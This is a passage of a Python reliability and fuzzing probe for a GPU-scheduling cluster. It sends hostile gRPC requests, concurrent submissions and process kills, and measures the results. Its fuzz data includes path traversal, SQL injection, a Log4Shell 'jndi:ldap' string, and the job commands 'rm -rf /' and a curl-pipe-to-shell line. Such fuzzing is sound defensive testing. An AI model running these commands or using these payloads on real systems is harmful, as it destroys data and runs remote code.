"""``python -m bench.reliability [--smoke] [--seed N]``: the outside reliability probe of a live local cluster.

It starts a real local cluster the way ``make up`` does (``devtools.cluster.up(2)``: embedded Redis with AOF and one
ACL user per process, pricer, predictor, allocator, two node agents with four simulated V100s each), secure as
shipped (mTLS everywhere, the operator's bearer token, plus two tenant tokens issued into the allocator's tokens
file), with the fast timers of the end-to-end tests, in a fresh temporary run directory. It then probes it only
through its public surfaces (gRPC, the processes, their /proc entries) and prints:

1. **Hostile input**, per service (allocator, pricer, predictor, node agent ``node-1``): N requests (10,000; smoke
   600) mixing undecodable bytes (random, truncated, invalid UTF-8, wrong wire types, huge length prefixes, deeply
   nested groups), valid messages with hostile field values (huge and odd strings, NaN/inf, negative and huge
   numbers, unknown enum values, 10,000-entry repeated fields, 10,000-character ids) and, on the allocator,
   hostile ``authorization`` metadata (missing, garbage, repeated, over-long, a tenant acting for another). A
   status-code histogram per service; UNKNOWN must be 0, INTERNAL should be 0 (its details are printed: each must
   carry an incident id). Jobs the hostile phase got accepted are cancelled afterwards; job commands are only ever
   sent with tenant tokens that may run none, so the probe never makes the cluster run a command.
2. **Concurrency**: 1,000 (smoke 100) SubmitJob at once from the two tenant tokens, a fifth of the request ids sent
   2-3 times at the same moment: afterwards each request id maps to exactly one job (``duplicated`` 0) and every
   acknowledged job exists (``lost`` 0).
3. **Faults** while those jobs run: ``kill -9`` of a node agent (restarted with the environment the cluster gave
   it, read from ``/proc/<pid>/environ``: ``cluster.spawn`` only knows the services), of the allocator leader
   (``cluster.spawn("allocator", "allocator")``) and of Redis (restarted with its own command line: same port,
   data dir with the AOF, ACL file). A sampler runs from start to end: every GPU of every node, from the store's
   committed usage (admin Redis user) and from what each agent's ``ListWorkloads`` says runs, is counted
   oversubscribed when its share exceeds 100 % or its memory its capacity; a job running under two placements (or
   twice on one node) counts as running twice. Both must be 0. Afterwards every job is eventually terminal or
   running, none lost, none duplicated.
   The Redis restart line also says how many keys Redis held before the kill and after the restart (and, when it
   lost some, the AOF replay errors of its own log).
4. **RSS** (``VmRSS`` of every process of the cluster) at start, after the load phases and after the faults; the
   growth bound checked is allocator <= 300 MB and every other process <= 200 MB (judged in the full run only).
5. **GetClusterState p50/p99** over 200 operator calls with 10,000 (smoke 1,000) finished jobs written directly to
   the store (``RedisStore.create_jobs`` with the admin user, namespace ``elastico``). Target p50 <= 20 ms.
6. **Health**: every server answers SERVING (and Redis PONG) after everything.

A summary table ends the output. Exit status: 1 when UNKNOWN > 0, lost > 0, duplicated > 0, oversubscribed > 0 or a
workload ran twice (correctness, in both modes); speed and memory figures print PASS/FAIL in the full run and never
change the exit status. ``--smoke`` finishes in well under 90 s on a 2-core machine (the full run: minutes).
Every hostile request is generated from ``(seed, service, index)``, so a run is repeatable request by request;
``--keep`` keeps the run directory (service logs, Redis data) for inspection.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import io
import json
import math
import os
import random
import shutil
import signal
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field, replace
from pathlib import Path

import grpc
import redis

from devtools import cluster
from elastico import auth
from elastico.domain import Job, JobKind, JobSpec, JobState, StateReason, TrainingWork
from elastico.healthcheck import health_status
from elastico.redis_embedded import EmbeddedRedis, free_port
from elastico.state.redis_store import RedisStore
from elastico.v1 import allocator_pb2 as apb
from elastico.v1 import allocator_pb2_grpc, node_agent_pb2_grpc
from elastico.v1 import node_agent_pb2 as npb
from elastico.v1 import predictor_pb2 as qpb
from elastico.v1 import pricer_pb2 as ppb
from elastico.v1 import types_pb2 as tpb

REPO_ROOT = Path(__file__).resolve().parents[1]
NAMESPACE = "elastico"
SIZES = {  # per mode: hostile requests per service, concurrent jobs, finished jobs in the store, settle timeout
    "full": {"hostile": 10_000, "jobs": 1_000, "finished": 10_000, "settle_s": 420.0},
    "smoke": {"hostile": 600, "jobs": 100, "finished": 1_000, "settle_s": 30.0},
}
CLUSTER_STATE_CALLS = 200
TARGET_CS_P50_S = 0.020
RSS_BOUND_MB = {"allocator": 300.0}  # every other process: RSS_BOUND_OTHER_MB
RSS_BOUND_OTHER_MB = 200.0
# the end-to-end tests' fast timers (tests/e2e/test_allocator_e2e.py), at time scale 1
CLUSTER_ENV = {"ELASTICO_ESTIMATOR": "rule", "ELASTICO_ROUND_INTERVAL_S": "0.2", "ELASTICO_REPORT_POLL_S": "0.1",
               "ELASTICO_RECONCILE_INTERVAL_S": "0.2", "ELASTICO_HEARTBEAT_INTERVAL_S": "0.5", "ELASTICO_LEASE_TTL_S": "2",
               "ELASTICO_SIM_GPU_COUNT": "4", "ELASTICO_STOP_GRACE_S": "2", "ELASTICO_OBSERVATION_INTERVAL_S": "1000000",
               "ELASTICO_LOG_FORMAT": "json"}
TENANTS = ("team-a", "team-b")
NOWHERE = "reliability-nowhere"  # a node id no node has: most hostile jobs that get accepted can never be placed
CHANNEL_OPTIONS = [("grpc.max_receive_message_length", 64 * 1024 * 1024), ("grpc.max_send_message_length", 64 * 1024 * 1024)]
T0 = time.monotonic()


def say(*args: object) -> None:
    print(*args, flush=True)


def section(title: str) -> None:
    say(f"\n== {title}  [t={time.monotonic() - T0:.0f} s]")


# =====================================================================================================
# the cluster
# =====================================================================================================
@dataclass
class Run:
    """The running cluster and the credentials the probe uses."""

    state: dict
    run_dir: Path
    operator_token: str
    tenant_tokens: dict[str, str]  # tenant -> bearer token (role tenant, no commands allowed)
    admin_url: str  # Redis admin user's URL (store inserts, the sampler's committed-usage reads)

    def addr(self, name: str) -> str:
        return next(p["address"] for p in self.state["procs"] if p["name"] == name)

    def pid(self, name: str) -> int:
        return next(p["pid"] for p in self.state["procs"] if p["name"] == name)

    @property
    def agents(self) -> dict[str, str]:
        return {p["name"]: p["address"] for p in self.state["procs"] if p["name"].startswith("node-")}

    def cert_only(self):
        """The operator's certificate without a token (the other services; hostile metadata on the allocator)."""
        return cluster.client_tls(self.state, token=False)

    def operator(self):
        return cluster.client_tls(self.state)

    def refresh(self) -> None:
        self.state = cluster.load_state() or self.state


def start_cluster(tmp: Path) -> Run:
    """``cluster.up(2)`` in ``tmp/run`` with the fast timers, secure; two tenant tokens issued and live."""
    for k in [k for k in os.environ if k.startswith("ELASTICO_") and k != "ELASTICO_REDIS_SERVER"]:
        del os.environ[k]
    os.environ.update(CLUSTER_ENV, ELASTICO_RUN_DIR=str(tmp / "run"), ELASTICO_BASE_PORT=str(free_port()))
    with contextlib.redirect_stdout(io.StringIO()):  # up() prints its endpoint table
        state = cluster.up(2, timeout_s=90)
    rd = cluster.run_dir()
    tokens_file = rd / "auth" / "tokens.json"
    tenant_tokens = {t: auth.issue(tokens_file, f"reliability-{t}", "tenant", tenant=t) for t in TENANTS}
    admin_url = json.loads(Path(state["redis_users_file"]).read_text())["admin"]
    run = Run(state, rd, Path(state["client"]["token_file"]).read_text().strip(), tenant_tokens, admin_url)
    deadline = time.monotonic() + 10  # the allocator re-reads the tokens file within a second
    for tenant, token in tenant_tokens.items():
        with run.cert_only().channel(run.addr("allocator")) as ch:
            stub = allocator_pb2_grpc.AllocatorStub(ch)
            while True:
                try:
                    stub.ListJobs(apb.ListJobsRequest(tenant=tenant, page_size=1), timeout=5,
                                  metadata=(("authorization", f"Bearer {token}"),))
                    break
                except grpc.RpcError as exc:
                    if exc.code() != grpc.StatusCode.UNAUTHENTICATED or time.monotonic() > deadline:
                        raise
                    time.sleep(0.2)
    return run


def _save_pid(run: Run, name: str, pid: int) -> None:
    """Record a restarted process in the cluster's state file, so that ``cluster.down`` stops it too."""
    state = cluster.load_state()
    for p in state["procs"]:
        if p["name"] == name:
            p["pid"] = pid
    (run.run_dir / "cluster.json").write_text(json.dumps(state, indent=2))
    run.refresh()


def _kill9(pid: int) -> None:
    """SIGKILL one process of the cluster and reap it (``cluster.up`` started it as our child)."""
    os.kill(pid, signal.SIGKILL)
    with contextlib.suppress(ChildProcessError):
        os.waitpid(pid, 0)
        return
    while cluster._alive(pid):  # noqa: SLF001 - not our child (a restarted process): wait until it is gone
        time.sleep(0.02)


def _proc_env(pid: int) -> dict[str, str]:
    raw = Path(f"/proc/{pid}/environ").read_bytes()
    return dict(item.split("=", 1) for item in raw.decode(errors="surrogateescape").split("\0") if "=" in item)


def leftover_workloads(run_dir: Path) -> list[int]:
    """Pids of processes still running from this run (workload shims name their directory under the run dir)."""
    out = []
    for d in Path("/proc").iterdir():
        if d.name.isdigit() and int(d.name) != os.getpid():
            with contextlib.suppress(OSError):
                if str(run_dir) in (d / "cmdline").read_bytes().decode(errors="replace"):
                    out.append(int(d.name))
    return out


# =====================================================================================================
# 0. the sampler: invariants checked from the start to the end
# =====================================================================================================
@dataclass
class SamplerCounts:
    samples: int = 0
    gpu_samples: int = 0
    oversubscribed_committed: int = 0  # GPU-samples: the store's committed share > 100 % or memory > capacity
    oversubscribed_running: int = 0  # GPU-samples: the running workloads' share > 100 % or memory > capacity
    running_twice: int = 0  # job-samples: a job under two placements at once, or twice on one node
    store_unreachable: int = 0
    agent_unreachable: int = 0
    max_share_seen: float = 0.0
    details: list[str] = field(default_factory=list)

    @property
    def oversubscribed(self) -> int:
        return self.oversubscribed_committed + self.oversubscribed_running


class Sampler(threading.Thread):
    """Every ``every_s``: the committed usage of every GPU (the store, as the admin user) and what every agent
    runs (``ListWorkloads`` starting/running); counts the invariant violations in ``counts``."""

    def __init__(self, run: Run, every_s: float = 0.3) -> None:
        super().__init__(daemon=True, name="sampler")
        self.run_, self.every_s = run, every_s
        self.counts = SamplerCounts()
        self._halt = threading.Event()

    def stop(self) -> SamplerCounts:
        self._halt.set()
        self.join(timeout=10)
        return self.counts

    def run(self) -> None:
        asyncio.run(self._loop())

    def _violation(self, text: str) -> None:
        if len(self.counts.details) < 20:
            self.counts.details.append(text)

    async def _loop(self) -> None:
        store = RedisStore.from_url(self.run_.admin_url, namespace=NAMESPACE, timeout_s=2.0)
        tls = self.run_.cert_only()
        chans = {n: tls.aio_channel(a) for n, a in self.run_.agents.items()}
        stubs = {n: node_agent_pb2_grpc.NodeAgentStub(c) for n, c in chans.items()}
        capacity: dict[tuple[str, int], int] = {}  # (node, gpu) -> memory MiB, from the last good store read
        c = self.counts
        try:
            while not self._halt.is_set():
                t0 = time.monotonic()
                await self._sample(store, stubs, capacity, c)
                await asyncio.sleep(max(0.0, self.every_s - (time.monotonic() - t0)))
        finally:
            for ch in chans.values():
                await ch.close()
            await store.close()

    async def _sample(self, store, stubs, capacity, c: SamplerCounts) -> None:
        c.samples += 1
        try:
            nodes = await store.list_nodes()
        except Exception:  # noqa: BLE001 - Redis down (a fault on purpose): no committed reading this time
            c.store_unreachable += 1
            nodes = []
        for n in nodes:
            for g in n.gpus:
                capacity[(n.node_id, g.index)] = g.mem_total_mib
                c.gpu_samples += 1
                c.max_share_seen = max(c.max_share_seen, g.allocated_share_pct)
                if g.allocated_share_pct > 100.0 + 1e-6 or g.allocated_mem_mib > g.mem_total_mib:
                    c.oversubscribed_committed += 1
                    self._violation(f"committed {n.node_id}:{g.index} {g.allocated_share_pct}% "
                                    f"{g.allocated_mem_mib}/{g.mem_total_mib} MiB")
        placements: dict[str, set[str]] = {}
        for name, stub in stubs.items():
            try:
                resp = await stub.ListWorkloads(npb.ListWorkloadsRequest(statuses=["starting", "running"]), timeout=2)
            except grpc.RpcError:
                c.agent_unreachable += 1  # an agent being restarted
                continue
            share: dict[int, float] = {}
            mem: dict[int, int] = {}
            seen: Counter[str] = Counter()
            for w in resp.workloads:
                seen[w.job_id] += 1
                placements.setdefault(w.job_id, set()).add(w.placement_id)
                for gi in w.gpu_indices:
                    share[gi] = share.get(gi, 0.0) + w.compute_share_pct
                    mem[gi] = mem.get(gi, 0) + w.mem_mib
            for gi in share:
                cap = capacity.get((name, gi))
                if share[gi] > 100.0 + 1e-6 or (cap is not None and mem[gi] > cap):
                    c.oversubscribed_running += 1
                    self._violation(f"running on {name}:{gi}: {share[gi]}% {mem[gi]}/{cap} MiB")
            for job_id, k in seen.items():
                if k > 1:
                    c.running_twice += 1
                    self._violation(f"job {job_id} runs {k} times on {name}")
        for job_id, pids in placements.items():
            if len(pids) > 1:
                c.running_twice += 1
                self._violation(f"job {job_id} runs under placements {sorted(pids)}")


# =====================================================================================================
# 1. hostile input
# =====================================================================================================
@dataclass
class Call:
    """One raw request: method path, payload bytes (sent as they are), metadata, and whether it streams."""

    method: str
    payload: bytes
    metadata: tuple[tuple[str, str], ...] | None = None
    stream: bool = False
    timeout: float = 5.0


class Hostile:
    """Hostile values and undecodable payloads, from one seeded generator (the run is repeatable)."""

    def __init__(self, rng: random.Random) -> None:
        self.r = rng

    # --- values ------------------------------------------------------------------------------------
    def string(self) -> str:
        return self.r.choice([
            "", " ", "x" * 10_000, "é" * 5_000, "\u202e\u0000\ufeff\ufffd",
            "../../../../etc/passwd", "' OR 1=1 --", "%s%n%x", "{{7*7}}", "${jndi:ldap://x}", "\n\r\t", "*", "-1",
            "a" * 129, "A" * 64, "ok-" + uuid.UUID(int=self.r.getrandbits(128)).hex, "🚀" * 1000, "\x00" * 64,
            "node-1", "team-a", "v100", "ResNet-50", "x" * self.r.randint(1, 300),
        ])

    def double(self) -> float:
        return self.r.choice([math.nan, math.inf, -math.inf, -1.0, -0.0, 0.0, 5e-324, 1e-300, 1e308, -1e308, 100.0000001,
                              1e9, 0.5, 50.0, 100.0, self.r.uniform(-1e6, 1e6)])

    def u32(self) -> int:
        return self.r.choice([0, 1, 2, 7, 1024, 1025, 65535, 2**31 - 1, 2**31, 2**32 - 1, self.r.getrandbits(32)])

    def u64(self) -> int:
        return self.r.choice([0, 1, 2**53 + 1, 2**63 - 1, 2**63, 2**64 - 1, self.r.getrandbits(64), self.r.getrandbits(16)])

    def i32(self) -> int:
        return self.r.choice([0, -1, 1, -2**31, 2**31 - 1, self.r.randint(-1000, 1000)])

    def enum(self) -> int:
        return self.r.choice([0, 1, 2, 3, 4, 5, 6, 7, 12, 13, 99, -1, 2**31 - 1, -2**31])

    def many(self, hostile, plain, p_big: float = 0.05, big: int = 10_000) -> list:
        """A repeated field: usually a few hostile items, sometimes ``big`` plain (short) ones. Never both: a
        request stays well under the servers' 64 MiB limit and quick to build."""
        if self.r.random() < p_big:
            return [plain() for _ in range(big)]
        return [hostile() for _ in range(self.r.choice([0, 0, 1, 1, 2, 3]))]

    def id(self) -> str:
        return self.r.choice(["x" * 10_000, self.string(), f"job-{self.r.getrandbits(40):x}", "", "-", "a" * 128, "a" * 129])

    def short_id(self) -> str:
        return f"j-{self.r.getrandbits(32):x}"

    # --- undecodable bytes -------------------------------------------------------------------------
    def garbage(self, valid: bytes) -> bytes:
        r = self.r
        kind = r.randrange(9)
        if kind == 0:
            return r.randbytes(r.randint(1, 64))
        if kind == 1:
            return r.randbytes(r.randint(65, 4096))
        if kind == 2 and len(valid) > 1:
            return valid[:r.randrange(1, len(valid))]  # truncated
        if kind == 3:
            return b"\x0a\x06\xff\xfe\xc0\xaf\xed\xa0"  # field 1 (a string everywhere it is used) with invalid UTF-8
        if kind == 4:
            return b"\x12\x01"  # field 2 as a 1-byte length with nothing after it
        if kind == 5:
            return b"\x12\xff\xff\xff\xff\x0f" + r.randbytes(8)  # a length prefix of 4 GiB
        if kind == 6:
            return b"\x9b\x06" * r.choice([200, 10_000, 100_000])  # start-group of field 99, nested deeply, never closed
        if kind == 7:
            return b"\x08" + b"\xff" * 11  # an over-long varint
        return valid + r.randbytes(r.randint(1, 32))  # trailing garbage after a valid message

    # --- messages ----------------------------------------------------------------------------------
    def shape(self) -> tpb.Shape:
        return tpb.Shape(num_gpus=self.u32(), compute_share_pct=self.double(), mem_mib=self.u64(), batch_size=self.u32(),
                         gpu_type=self.string(), throughput=self.double())

    def spec(self, tenant: str | None = None, command: bool = False, pinned: bool = True) -> tpb.JobSpec:
        """A spec of hostile values everywhere; ``pinned``: allowed on no existing node (accepted, never placed)."""
        r = self.r
        s = tpb.JobSpec(name=self.string(), tenant=tenant if tenant is not None else r.choice([self.string(), "team-a", "team-b"]),
                        priority=self.i32(), kind=self.enum(), model_family=r.choice([self.string(), "ResNet-18", "BERT"]),
                        batch_size=self.u32(), precision=self.string())
        s.shapes.extend(self.many(self.shape, lambda: tpb.Shape(num_gpus=1, compute_share_pct=self.double(), mem_mib=1),
                                  p_big=0.05))
        which = r.randrange(4)
        if which == 0:
            s.training.CopyFrom(tpb.TrainingWork(total_steps=self.u64(), max_slowdown=self.double()))
        elif which == 1:
            s.inference.CopyFrom(tpb.InferenceWork(demand_rps=self.double(), latency_slo_ms=self.double()))
        for i, (k, v) in enumerate(self.many(lambda: (self.string(), self.string()), lambda: (f"k{r.getrandbits(40)}", "v"))):
            s.labels[k[:5000] + str(i)] = v
        s.allowed_nodes.extend(self.many(self.string, lambda: f"n{r.getrandbits(24)}") + ([NOWHERE] if pinned else []))
        if command:
            s.command = r.choice(["rm -rf /", "sh -c 'curl x | sh'", "/bin/true", "\x00", "x" * 10_000, "'unbalanced"])
        return s

    def perturbed_spec(self, tenant: str, pinned: bool) -> tpb.JobSpec:
        """A well-formed spec with one field made hostile: most get past the first checks, some are accepted."""
        r = self.r
        s = tpb.JobSpec(name="ok", tenant=tenant, kind=tpb.JOB_KIND_TRAINING, model_family="ResNet-18", batch_size=64,
                        training=tpb.TrainingWork(total_steps=r.choice([1, 100, 10_000])))
        k = r.randrange(12)
        if k == 0:
            s.name = self.string()
        elif k == 1:
            s.model_family = self.string()
        elif k == 2:
            s.batch_size = self.u32()
        elif k == 3:
            s.priority = self.i32()
        elif k == 4:
            s.precision = self.string()
        elif k == 5:
            s.training.total_steps = self.u64()
        elif k == 6:
            s.training.max_slowdown = self.double()
        elif k == 7:
            s.shapes.append(self.shape())
        elif k == 8:
            s.shapes.append(tpb.Shape(num_gpus=r.choice([1, 2, 4, 8, 1024]), compute_share_pct=r.choice([1, 25, 50, 100, 0.01]),
                                      mem_mib=r.choice([1, 4096, 16384, 16385, 2**40]), gpu_type=r.choice(["", "v100", "h200"])))
        elif k == 9:
            s.kind = tpb.JOB_KIND_INFERENCE
            s.inference.CopyFrom(tpb.InferenceWork(demand_rps=self.double(), latency_slo_ms=self.double()))
        elif k == 10:
            s.labels[self.string()[:5000]] = self.string()
        else:
            s.allowed_nodes.append(self.string())
        if pinned:
            s.allowed_nodes.append(NOWHERE)
        return s


ALLOC = "/elastico.v1.Allocator/"
PRICER = "/elastico.v1.Pricer/ComputeAllocation"
PREDICTOR = "/elastico.v1.Predictor/"
AGENT = "/elastico.v1.NodeAgent/"


def allocator_call(h: Hostile, run: Run) -> Call:
    """One hostile request for the allocator: a quarter undecodable, a fifth with hostile authorization metadata,
    a tenth from a tenant token (another tenant's spec, a command it may not run, hostile values as itself)."""
    r = h.r
    op = (("authorization", f"Bearer {run.operator_token}"),)
    k = r.random()
    if k < 0.50:
        pinned = r.random() < 0.8  # the rest may get placed and run (they are cancelled after the phase)
        spec = h.spec(pinned=pinned) if r.random() < 0.5 else h.perturbed_spec(r.choice(TENANTS), pinned)
        req = apb.SubmitJobRequest(request_id=r.choice([f"hostile-{r.getrandbits(64):x}"] * 3 + [h.id()]), spec=spec)
        method, payload, stream, timeout = "SubmitJob", req.SerializeToString(), False, 5.0
    elif k < 0.62:
        method, payload, stream, timeout = "CancelJob", apb.CancelJobRequest(job_id=h.id()).SerializeToString(), False, 5.0
    elif k < 0.77:
        method, payload, stream, timeout = "GetJob", apb.GetJobRequest(job_id=h.id()).SerializeToString(), False, 5.0
    elif k < 0.86:
        req = apb.ListJobsRequest(tenant=r.choice(["", "team-a", h.string()]), page_size=h.u32(),
                                  page_token=r.choice(["", "1", "-1", "abc", "9" * 400, "1e999", h.string()]))
        req.states.extend(h.many(h.enum, h.enum, p_big=0.1))
        method, payload, stream, timeout = "ListJobs", req.SerializeToString(), False, 5.0
    elif k < 0.94:
        req = apb.WatchJobsRequest(after_event_id=r.choice(["", "0", "$", "-", "1-1", "99999999999999-0", "x" * 10_000,
                                                            "\u0661\u0662\u0663", h.string()]))
        req.job_ids.extend(h.many(h.id, h.short_id, p_big=0.1))
        method, payload, stream, timeout = "WatchJobs", req.SerializeToString(), True, 0.5
    else:
        method, payload, stream, timeout = "GetClusterState", b"" if r.random() < 0.5 else h.garbage(b"")[:8], False, 5.0
    k = r.random()
    if k < 0.25:  # garbage may decode into any field, spec.command too: a submission goes with a tenant token (no commands)
        payload = h.garbage(payload)
        md = (("authorization", f"Bearer {run.tenant_tokens[r.choice(TENANTS)]}"),) if method == "SubmitJob" else op
    elif k < 0.45:
        md = r.choice([None, (("authorization", "Bearer garbage"),), (("authorization", "garbage"),),
                       (("authorization", "Bearer "),), (("authorization", "Basic dXNlcjpwYXNz"),),
                       (("authorization", "Bearer " + "x" * 4000),), (("authorization", "bearer " + run.operator_token),),
                       op + op, op + (("authorization", "Bearer garbage"),), (("authorization", f"Bearer {run.operator_token}x"),),
                       (("authorization", f"Bearer  {run.operator_token} "),),
                       (("x-elastico-tenant", "team-a"), ("authorization", "Bearer elastico_" + "A" * 43))])
    elif k < 0.55:
        t = r.choice(TENANTS)
        md = (("authorization", f"Bearer {run.tenant_tokens[t]}"),)
        if method == "SubmitJob":
            payload = apb.SubmitJobRequest(request_id=f"hostile-{r.getrandbits(64):x}",
                                           spec=h.spec(tenant=r.choice([t, "team-a", "team-b", h.string()]),
                                                       command=r.random() < 0.5)).SerializeToString()
    else:
        md = op
    return Call(ALLOC + method, payload, md, stream, timeout)


def pricer_call(h: Hostile) -> Call:
    """Hostile values everywhere; at most one dimension (pools, jobs, shapes per job, demand length) large."""
    r = h.r
    req = ppb.ComputeAllocationRequest(max_iterations=h.u32(), gap_tolerance=h.double())
    big = r.choice(["pools", "jobs", "shapes", "demand"]) if r.random() < 0.1 else ""
    pools = 10_000 if big == "pools" else r.choice([0, 1, 1, 2, 3, 4])
    for i in range(pools):
        req.pools.add(name=r.choice([f"p{i}", f"p{i}", f"p{i}", h.string(), "p0"]) if pools < 100 else f"p{i}",
                      capacity=h.double() if pools < 100 else 1.0)
    for i in range(10_000 if big == "jobs" else r.choice([0, 1, 2, 5, 20, 50])):
        j = req.jobs.add(job_id=(r.choice([f"j{i}", f"j{i}", h.id(), "j0"]) if big != "jobs" else f"j{i}"))
        for _ in range(10_000 if big == "shapes" and i == 0 else r.choice([0, 1, 2, 3])):
            dims = 10_000 if big == "demand" and i == 0 else r.choice([pools, pools, pools + 1, max(0, pools - 1)])
            j.shapes.add(utility=h.double(), demand=[h.double() for _ in range(dims)] if dims < 100 else [1.0] * dims)
    req.warm_start_prices.extend(h.double() for _ in range(r.choice([0, pools, pools + 3]) if pools < 100 else pools))
    payload = req.SerializeToString()
    return Call(PRICER, h.garbage(payload) if r.random() < 0.25 else payload, None, False, 2.0)


def _profile(h: Hostile) -> qpb.TaskProfile:
    r = h.r
    p = qpb.TaskProfile(job_id=h.id()[:2000], model_family=r.choice([h.string(), "ResNet-50", "BERT"]), batch_size=h.u32(),
                        precision=h.string(), kind=h.enum(), gpu_type=r.choice([h.string(), "v100", "k80"]),
                        mps_share_pct=h.double())
    if r.random() < 0.5:
        p.counters.CopyFrom(tpb.GpuCounters(sm_util_pct=h.double(), mem_bw_util_pct=h.double(), mem_used_mib=h.double(),
                                            tensor_util_pct=h.double()))
    return p


def predictor_call(h: Hostile) -> Call:
    r = h.r
    k = r.random()
    if k < 0.55:
        req = qpb.PredictInterferenceRequest()
        count = r.choice([0, 1, 2, 16, 10_000, 10_001]) if r.random() < 0.1 else r.randint(1, 8)
        plain = qpb.PairQuery(a=qpb.TaskProfile(model_family="ResNet-50", batch_size=r.choice([0, 64]), gpu_type="v100",
                                                mps_share_pct=h.double()),
                              b=qpb.TaskProfile(model_family=r.choice(["BERT", "?"]), batch_size=32, kind=h.enum()))
        req.pairs.extend(plain if count > 16 else qpb.PairQuery(a=_profile(h), b=_profile(h)) for _ in range(count))
        method, payload = "PredictInterference", req.SerializeToString()
    elif k < 0.85:
        req = qpb.ReportObservationRequest()
        count = r.choice([0, 1, 2, 3, 10_000, 10_001]) if r.random() < 0.1 else r.randint(1, 3)
        for _ in range(count):
            if count > 3:
                req.observations.add(a=qpb.TaskProfile(model_family="ResNet-50", gpu_type="v100"),
                                     b=qpb.TaskProfile(model_family="BERT"), norm_tput_a=h.double(), norm_tput_b=0.5)
            else:
                req.observations.add(a=_profile(h), b=_profile(h), norm_tput_a=h.double(), norm_tput_b=h.double(),
                                     node_id=h.string(), time_unix_s=h.double())
        method, payload = "ReportObservation", req.SerializeToString()
    else:
        method, payload = "GetModelInfo", b""
    return Call(PREDICTOR + method, h.garbage(payload) if r.random() < 0.25 else payload, None, False, 5.0)


def agent_call(h: Hostile) -> Call:
    r = h.r
    k = r.random()
    timeout = 5.0
    if k < 0.3:
        method, payload = "GetNodeStatus", b""
    elif k < 0.4:  # a generation far ahead is waited for (bounded): a short deadline keeps the probe moving
        method, timeout = "Sync", 1.0
        payload = npb.SyncRequest(min_generation=r.choice([0, 1, 2**64 - 1, h.u64()])).SerializeToString()
    else:
        req = npb.ListWorkloadsRequest()
        req.job_ids.extend(h.many(h.id, h.short_id, p_big=0.1))
        req.statuses.extend(h.many(lambda: r.choice(["running", "starting", "killed", h.string()]), lambda: "running", p_big=0.1))
        method, payload = "ListWorkloads", req.SerializeToString()
    return Call(AGENT + method, h.garbage(payload) if r.random() < 0.25 else payload, None, False, timeout)


@dataclass
class HostileResult:
    codes: Counter = field(default_factory=Counter)
    internal: list[str] = field(default_factory=list)  # details of INTERNAL and UNKNOWN answers
    example: dict[str, str] = field(default_factory=dict)  # code -> one (method, details) seen with it
    longest: tuple[int, str] = (0, "")  # the longest status message (chars, method): are hostile values echoed?
    sent_bytes: int = 0
    created: list[str] = field(default_factory=list)  # job ids the allocator accepted (cancelled afterwards)
    seconds: float = 0.0


def fire(channel: grpc.Channel, make: Callable[[int], Call], n: int, threads: int = 16) -> HostileResult:
    """Build (``make(i)``) and send calls 0..n-1, ``threads`` at a time, with identity (de)serializers: the probe
    chooses every byte of the request. Returns the status-code histogram."""
    res = HostileResult()
    lock = threading.Lock()
    ident = lambda b: b  # noqa: E731

    def one(i: int) -> None:
        c = make(i)
        with lock:
            res.sent_bytes += len(c.payload)
        details, body = "", None
        try:
            if c.stream:
                for _ in channel.unary_stream(c.method, request_serializer=ident, response_deserializer=ident)(
                        c.payload, timeout=c.timeout, metadata=c.metadata):
                    pass
            else:
                body = channel.unary_unary(c.method, request_serializer=ident, response_deserializer=ident)(
                    c.payload, timeout=c.timeout, metadata=c.metadata)
            code = grpc.StatusCode.OK
        except grpc.RpcError as exc:
            code, details = exc.code(), exc.details() or ""
        with lock:
            res.codes[code.name] += 1
            res.example.setdefault(code.name, f"{c.method.rsplit('/', 1)[-1]}: {details[:160]}")
            if len(details) > res.longest[0]:
                res.longest = (len(details), f"{c.method.rsplit('/', 1)[-1]} {code.name}: {details[:100]}...")
            if code in (grpc.StatusCode.INTERNAL, grpc.StatusCode.UNKNOWN):
                res.internal.append(f"{c.method.rsplit('/', 1)[-1]} {code.name}: {details[:300]}")
            if body is not None and c.method.endswith("/SubmitJob"):
                resp = apb.SubmitJobResponse.FromString(body)
                if resp.created:
                    res.created.append(resp.job.job_id)

    t0 = time.perf_counter()
    with ThreadPoolExecutor(threads) as pool:
        list(pool.map(one, range(n)))
    res.seconds = time.perf_counter() - t0
    return res


def hostile_input(run: Run, n: int, seed: int) -> dict[str, HostileResult]:
    """Section 1: N hostile requests per service; histograms printed; accepted hostile jobs cancelled."""
    section(f"1. hostile input: {n} requests per service (undecodable bytes, hostile field values, "
        f"hostile authorization metadata on the allocator)")
    plan = {"allocator": lambda h: allocator_call(h, run), "pricer": pricer_call, "predictor": predictor_call,
            "node-1": agent_call}
    out: dict[str, HostileResult] = {}
    tls = run.cert_only()
    for service, build in plan.items():
        def make(i: int, build=build, service=service) -> Call:  # request i of a service is the same in every run
            return build(Hostile(random.Random(f"{seed}:{service}:{i}")))

        with tls.channel(run.addr(service), options=CHANNEL_OPTIONS) as ch:
            res = out[service] = fire(ch, make, n)
        rest = " ".join(f"{k}={v}" for k, v in sorted(res.codes.items()) if k not in ("UNKNOWN", "INTERNAL"))
        say(f"hostile {service}: n={sum(res.codes.values())} UNKNOWN={res.codes['UNKNOWN']} INTERNAL={res.codes['INTERNAL']} "
            f"| {rest}  ({res.sent_bytes / 2**20:.0f} MiB in {res.seconds:.1f} s, {sum(res.codes.values()) / max(res.seconds, 1e-9):.0f} req/s)")
        for code in sorted(set(res.codes) - {"OK", "INVALID_ARGUMENT", "UNAUTHENTICATED", "NOT_FOUND", "UNKNOWN", "INTERNAL"}):
            say(f"    e.g. {code}: {res.example[code]}")
        if res.longest[0] > 1000:
            say(f"    longest status message {res.longest[0]} chars ({res.longest[1]})")
        for d in res.internal[:10]:
            say(f"    {d}  [incident id: {'yes' if 'incident' in d else 'NO'}]")
        if len(res.internal) > 10:
            say(f"    ... {len(res.internal) - 10} more")
    created = out["allocator"].created
    cancelled = Counter()
    with run.operator().channel(run.addr("allocator"), options=CHANNEL_OPTIONS) as ch:
        stub = allocator_pb2_grpc.AllocatorStub(ch)
        for job_id in created:
            try:
                stub.CancelJob(apb.CancelJobRequest(job_id=job_id), timeout=10)
                cancelled["CANCELLED"] += 1
            except grpc.RpcError as exc:
                cancelled[exc.code().name] += 1
    say(f"hostile jobs the allocator accepted: {len(created)} (cancelled afterwards: "
        f"{', '.join(f'{k} {v}' for k, v in sorted(cancelled.items())) or 'none'})")
    return out


# =====================================================================================================
# 2. concurrency: many SubmitJob at once, duplicates among them
# =====================================================================================================
@dataclass
class Submitted:
